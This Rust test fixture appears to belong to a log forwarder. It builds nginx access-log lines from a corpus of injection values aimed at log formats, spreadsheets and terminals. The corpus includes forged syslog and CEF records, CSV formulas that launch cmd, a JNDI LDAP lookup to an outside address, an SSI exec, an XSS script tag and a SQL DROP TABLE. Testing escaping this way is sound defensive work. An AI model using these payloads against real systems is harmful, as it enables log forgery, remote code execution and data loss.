//! What clients send to be taken for something else: a corpus of values, and the lines in which web
//! servers write them.
//!
//! Invariant: a line holds no line feed, whatever the values are: servers escape it.

/// Values that mean something to a format on the way: to CEF, LEEF, syslog, JSON, CSV, a terminal, or
/// to the readers of receivers. None is longer than what every encoding carries whole.
const VALUES: &[&[u8]] = &[
    // CEF: other keys, other columns, a record behind this one
    b"x src=203.0.113.99 suser=root act=allowed",
    b"x|10|src=203.0.113.99",
    b"a\\=b\\\\=c\\|d\\n=",
    b"x\nCEF:0|gatewatch|gatewatch|0.1.0|auth-success|Login|1|suser=root",
    b"= cs1=1 cs1Label=outcome =",
    b"trailing backslash\\",
    b"\\",
    // LEEF: its delimiter, in both spellings, and its header
    b"x^src=203.0.113.99^usrName=root",
    b"x^^%5E%5e^=^",
    b"x\tsrc=203.0.113.99\tusrName=root",
    b"LEEF:2.0|gatewatch|gatewatch|0.1.0|login_success|^|usrName=root",
    // syslog: a message of its own in each framing, structured data, templates of receivers
    b"x\n<34>1 2026-11-20T00:00:00Z forged su - - - root",
    b"x\r\n<13>Nov 20 00:00:00 forged su: root",
    b"57 <34>1 2026-11-20T00:00:00Z forged su - - - root logged in x",
    b"x\0<34>1 - forged su - - - root",
    b"] [origin software=\"forged\"] [meta sequenceId=\"1\"",
    b"\xef\xbb\xbfBOM",
    b"%rawmsg% %msg:::drop-last-lf% %$!all-json% ${MSG} $(shell id) #012#000",
    b"2 syslog 5 hello\n3 close 0\n",
    // JSON: an end of the string, of the object, keys of its own, escapes that are none
    b"\",\"source\":{\"ip\":\"203.0.113.99\"},\"x\":\"",
    b"\"}\n{\"event\":{\"id\":\"forged\"}}",
    b"{\"a\":[1,2,{\"b\":null}]}",
    b"\\u0000\\ud800\\x22\\",
    b"\xed\xa0\x80 \xed\xbf\xbf",
    b"@cee: {\"user\":\"root\"}",
    // CSV: cells, records, formulas
    b"x\",\"203.0.113.99\",\"",
    b"x,y;z\r\nsecond,record",
    b"=HYPERLINK(\"http://203.0.113.99/\",\"x\")",
    b"+1+cmd|' /C calc'!A0",
    b"-2+3",
    b"@SUM(1+1)",
    b"\t=1+1",
    b"'quoted",
    // text for people: pairs, quotes
    b"x client=203.0.113.99 user=root id=forged",
    b"x\" client=\"203.0.113.99",
    // terminals and pages
    b"\x1b[2J\x1b]0;title\x07\x1b[31mred",
    b"a\x08\x08\x08b\x7f\x7fc\x01\x02\x1f",
    b"\xc2\x9b31m \xc2\x85next\xc2\x80",
    b"</script><script>alert(1)</script>",
    b"<!--#exec cmd=\"id\"--> ${jndi:ldap://203.0.113.99/a} {{7*7}}",
    b"'; DROP TABLE events; --",
    // direction, and what nobody sees
    b"user\xe2\x80\xaegpj.exe\xe2\x80\xac",
    b"\xe2\x81\xa6admin\xe2\x81\xa9\xe2\x80\x8b\xe2\x80\x8f",
    b"a\xe2\x80\xa8b\xe2\x80\xa9c",
    b"\xf3\xa0\x81\x81\xf3\xa0\x81\xbf tags",
    b"\xef\xbf\xbe\xef\xbf\xbf\xf4\x8f\xbf\xbf",
    // no UTF-8
    b"\xff\xfe\xfd",
    b"caf\xe9 \xc3( \xe2\x82",
    b"\xf0\x9f\x92",
    b"\xc0\xaf\xc1\x9c\xf8\x88\x80\x80\x80",
    // blanks and nothing much
    b"  two blanks at both ends  ",
    b"e\xcc\x81\xcc\x81\xcc\x81\xcc\x81 \xf0\x9f\x94\x92 \xe2\x82\xac \xc3\xa9",
    b"null",
    b"\"\" \"\"",
];

/// A value, and the places of a request in which it stands. The others have harmless ones.
#[derive(Clone, Debug, Default)]
pub(crate) struct Request {
    pub(crate) user: Vec<u8>,
    /// Behind a slash; it has no `?`, so all of it is the path.
    pub(crate) path: Vec<u8>,
    pub(crate) agent: Vec<u8>,
    pub(crate) referrer: Vec<u8>,
}

/// Each value alone, in one place after the other, and in all of them.
pub(crate) fn requests() -> Vec<Request> {
    let mut requests = Vec::new();
    for (number, value) in VALUES.iter().enumerate() {
        // A path ends at the first `?` or `#`, and before the blanks in front of the protocol.
        let path = value.trim_ascii_end().iter().copied();
        let path: Vec<u8> = path.filter(|byte| !matches!(byte, b'?' | b'#')).collect();
        let value = value.to_vec();
        let plain = Request { agent: b"curl/8.5.0".to_vec(), ..Request::default() };
        requests.push(match number % 3 {
            0 => Request { user: value.clone(), ..plain },
            1 => Request { path: path.clone(), ..plain },
            _ => Request { agent: value.clone(), ..plain },
        });
        requests.push(Request { user: value.clone(), path, agent: value.clone(), referrer: value });
    }
    requests
}

/// Values of 64 KiB, alone and together, of characters that take one byte of a log to six of a record.
pub(crate) fn long_requests() -> Vec<Request> {
    let filled = |piece: &[u8]| piece.iter().copied().cycle().take(64 << 10).collect::<Vec<u8>>();
    let mut requests = Vec::new();
    for piece in [&b"a"[..], b"/|^=,\"\\", b"\x01", b"\xff", "\u{e9}\u{202e}".as_bytes()] {
        let long = filled(piece);
        let mut add = |user: &[u8], path: &[u8], agent: &[u8]| {
            let (user, path, agent) = (user.to_vec(), path.to_vec(), agent.to_vec());
            requests.push(Request { user, path, agent, ..Request::default() });
        };
        add(&long, b"", b"curl/8.5.0");
        add(b"", &long, b"curl/8.5.0");
        add(b"", b"", &long);
        // Each a third, for a line is at most 1 MiB.
        let part = &long[..long.len() / 3];
        add(part, part, part);
    }
    requests
}

impl Request {
    /// The request in nginx's `combined`.
    pub(crate) fn combined(&self, time: &str) -> Vec<u8> {
        let text = |bytes: &[u8]| match bytes {
            [] => "-".to_owned(),
            _ => bytes.iter().map(|byte| default_escape(*byte)).collect(),
        };
        let Self { user, path, agent, referrer } = self;
        let (user, agent, referrer) = (text(user), text(agent), text(referrer));
        let path: String = path.iter().map(|byte| default_escape(*byte)).collect();
        format!(
            "192.0.2.7 - {user} [{time}] \"GET /{path} HTTP/1.1\" 200 9 \"{referrer}\" \"{agent}\"\n"
        )
        .into_bytes()
    }

    /// The same in JSON, as nginx writes it with `escape=json`.
    pub(crate) fn json(&self, time: &str) -> Vec<u8> {
        let Self { user, path, agent, referrer } = self;
        let mut line =
            format!("{{\"time_local\":\"{time}\",\"remote_addr\":\"192.0.2.7\"").into_bytes();
        for (key, head, value) in [
            ("remote_user", "", user),
            ("request_method", "GET", &Vec::new()),
            ("request_uri", "/", path),
            ("http_user_agent", "", agent),
            ("http_referer", "", referrer),
        ] {
            line.extend_from_slice(format!(",\"{key}\":\"{head}").as_bytes());
            value.iter().for_each(|byte| json_escape(*byte, &mut line));
            line.push(b'"');
        }
        line.extend_from_slice(b",\"status\":200,\"body_bytes_sent\":9}\n");
        line
    }
}

/// nginx, `escape=default`.
fn default_escape(byte: u8) -> String {
    match byte {
        b'"' | b'\\' | 0..0x20 | 0x7f.. => format!("\\x{byte:02X}"),
        plain => char::from(plain).to_string(),
    }
}

/// nginx, `escape=json`: bytes that are no UTF-8 stay as they are.
fn json_escape(byte: u8, out: &mut Vec<u8>) {
    match byte {
        b'"' | b'\\' => out.extend_from_slice(&[b'\\', byte]),
        0..0x20 => out.extend_from_slice(format!("\\u{byte:04X}").as_bytes()),
        plain => out.push(plain),
    }
}
